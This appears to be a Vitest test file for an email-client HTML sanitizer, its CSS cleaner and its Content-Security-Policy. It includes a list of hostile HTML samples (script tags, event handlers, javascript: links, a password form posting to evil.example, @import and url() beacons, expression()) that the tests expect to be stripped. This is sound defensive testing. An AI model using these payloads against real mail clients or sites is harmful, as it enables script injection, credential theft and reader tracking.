// @vitest-environment jsdom
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cleanCss, mailFrameCsp, mailSrcdoc, sanitizeMailHtml } from '../../../src/renderer/src/mail/sanitizeMail';

// DOMPurify is tested under jsdom (happy-dom lets <script> through: MACHINE-NOTES.md).

const hostile: Array<[string, string]> = [
  ['script', '<p>hi</p><script>window.__pwned = 1</script>'],
  ['event handler', '<a href="#" onclick="window.__pwned=1">x</a><img src="data:image/png;base64,AA" onerror="window.__pwned=1">'],
  ['javascript: link', '<a href="javascript:window.__pwned=1">x</a>'],
  ['form', '<form action="https://evil.example/post"><input name="password"><button>go</button></form>'],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/a.css">'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['object/embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
  ['svg script', '<svg><script>window.__pwned=1</script><image href="https://evil.example/t.png"/></svg>'],
  ['style @import', '<style>@import url(https://evil.example/a.css); p{color:red}</style><p>x</p>'],
  ['style url()', '<style>body{background:url("https://evil.example/t.gif")}</style>'],
  ['inline style url()', '<div style="background-image:url(https://evil.example/t.gif)">x</div>'],
  ['escaped url()', '<div style="background:u\\72l(https://evil.example/t.gif)">x</div>'],
  ['srcset', '<img srcset="https://evil.example/t.png 1x">'],
  ['background attribute', '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>'],
  ['remote image', '<img src="https://tracker.example/pixel.gif">'],
  ['video poster', '<video poster="https://evil.example/p.png"></video>'],
];

describe('sanitizeMailHtml', () => {
  it.each(hostile)('%s: nothing that runs or reaches the network survives', (_name, html) => {
    const { html: out } = sanitizeMailHtml(html, false);
    expect(out).not.toMatch(/<script|onclick|onerror|javascript:|<form|<input|<base|<meta|<link|<iframe|<object|<embed|<svg|<video|@import|srcset|background=/i);
    expect(out).not.toMatch(/\ssrc="https?:|url\(\s*['"]?https?:/i);
  });

  it('keeps the text, layout and cid:/data: images, and counts what it blocked', () => {
    const { html, blockedRemote } = sanitizeMailHtml('<table><tr><td style="color:red">Bonjour</td></tr></table><img src="cid:logo@x"><img src="data:image/png;base64,AAAA"><img src="https://img.example.com/a.jpg">', false);
    expect(html).toContain('Bonjour');
    expect(html).toContain('style="color:red"');
    expect(html).toContain('src="cid:logo@x"');
    expect(html).toContain('src="data:image/png;base64,AAAA"');
    expect(html).toContain('data-blocked-src="https://img.example.com/a.jpg"');
    expect(blockedRemote).toBe(1);
  });

  it('shows https images (never http) once the agent asks for remote content', () => {
    const { html } = sanitizeMailHtml('<img src="https://img.example.com/a.jpg"><img src="http://img.example.com/b.jpg">', true);
    expect(html).toContain('src="https://img.example.com/a.jpg"');
    expect(html).not.toContain(' src="http://img.example.com/b.jpg"');
  });

  it('makes links inert in the sandbox and shows where they lead', () => {
    const { html } = sanitizeMailHtml('<a href="https://videos.example.com/x">voir</a>', false);
    expect(html).toContain('target="_blank"');
    expect(html).toContain('title="https://videos.example.com/x"');
  });

  it('cleans the demo hostile mail (technical/006): no script, no handler, no remote image', () => {
    const dir = join('resources', 'demo', 'mail', 'technical');
    const name = readdirSync(dir).find((n) => n.startsWith('006-'));
    const raw = readFileSync(join(dir, name ?? ''), 'utf8');
    const body = raw.slice(raw.indexOf('\n\n') + 2).replace(/=\r?\n/g, '').replace(/=([0-9A-F]{2})/g, (_m, h: string) => String.fromCharCode(parseInt(h, 16)));
    const { html, blockedRemote } = sanitizeMailHtml(body, false);
    expect(html).not.toMatch(/<script|onclick|document\.location|\ssrc="https/i);
    expect(blockedRemote).toBe(3);
  });
});

describe('cleanCss', () => {
  it.each([
    ['p{color:red}', 'p{color:red}', 0],
    ['@import "https://x/a.css"; p{}', ' p{}', 1],
    ['a{background:url(cid:x)}', 'a{background:url(cid:x)}', 0],
    ['a{background:url( "https://x/t.gif" )}', 'a{background:none}', 1],
    ['a{width:expression(alert(1))}', 'a{width:invalid(alert(1))}', 1],
  ])('%j', (css, expected, blocked) => expect(cleanCss(css)).toEqual({ css: expected, blocked }));
});

describe('mailSrcdoc', () => {
  it('puts the CSP first: nothing but inline styles and cid:/data: images', () => {
    expect(mailFrameCsp(false)).toBe("default-src 'none'; img-src data: cid:; style-src 'unsafe-inline'; font-src data:; form-action 'none'; base-uri 'none'");
    expect(mailFrameCsp(true)).toContain('img-src data: cid: https:;');
    const { srcdoc } = mailSrcdoc('<p>x</p>', false, 'fr');
    expect(srcdoc.indexOf('Content-Security-Policy')).toBeLessThan(srcdoc.indexOf('<body>'));
    expect(srcdoc).toContain('<body><p>x</p></body>');
  });
});
